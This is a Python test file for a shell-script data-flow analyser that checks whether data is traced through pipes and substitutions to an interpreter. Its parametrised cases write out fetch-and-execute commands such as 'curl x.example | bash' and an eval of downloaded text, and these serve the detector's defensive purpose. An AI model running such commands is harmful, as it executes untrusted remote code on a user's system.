"""Where data comes from."""

import pytest

from synaptic.shell.effects.flow import DataFlow, classify_interpreter
from synaptic.shell.read.reader import read_script


def origins(text: str, name: str) -> set[str]:
    found = read_script(text, "/p", "/h")
    last = [command for command in found.commands if command.name == name][-1]
    return {command.name for command in DataFlow(found).find_origins(last)}


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("curl x.example | bash", "bash"),
        ("curl x.example | cat | bash", "bash"),
        ("cat <(curl x.example) | bash", "bash"),
        ('echo "$(curl x.example)" | bash', "bash"),
        ("bash < <(curl x.example)", "bash"),
        ('X=$(curl x.example); eval "$X"', "eval"),
    ],
)
def test_data_is_followed_through_pipes_and_substitutions(text: str, name: str):
    assert "curl" in origins(text, name)


def test_what_stands_behind_or_apart_feeds_nothing():
    assert origins("bash | curl x.example", "bash") == set()
    assert origins("curl x.example; bash", "bash") == set()


def test_interpreters_with_versions_and_in_capitals():
    assert classify_interpreter("python3.11") == "language"
    assert classify_interpreter("BASH") == "shell"
    assert classify_interpreter("rm") == ""


def test_the_nearest_command_comes_first_and_none_twice():
    found = read_script("a | b $(c | d) | e", "/p", "/h")
    last = found.commands[-1]
    assert [command.name for command in DataFlow(found).find_origins(last)] == ["b", "d", "c", "a"]


def test_more_links_than_are_followed_are_said():
    small, large = read_script("cat a | sh; " * 20), read_script("|".join(["sh"] * 900))
    for found, tangled in ((small, False), (large, True)):
        flow = DataFlow(found)
        for command in found.commands:
            flow.find_origins(command)
        assert flow.is_tangled is tangled
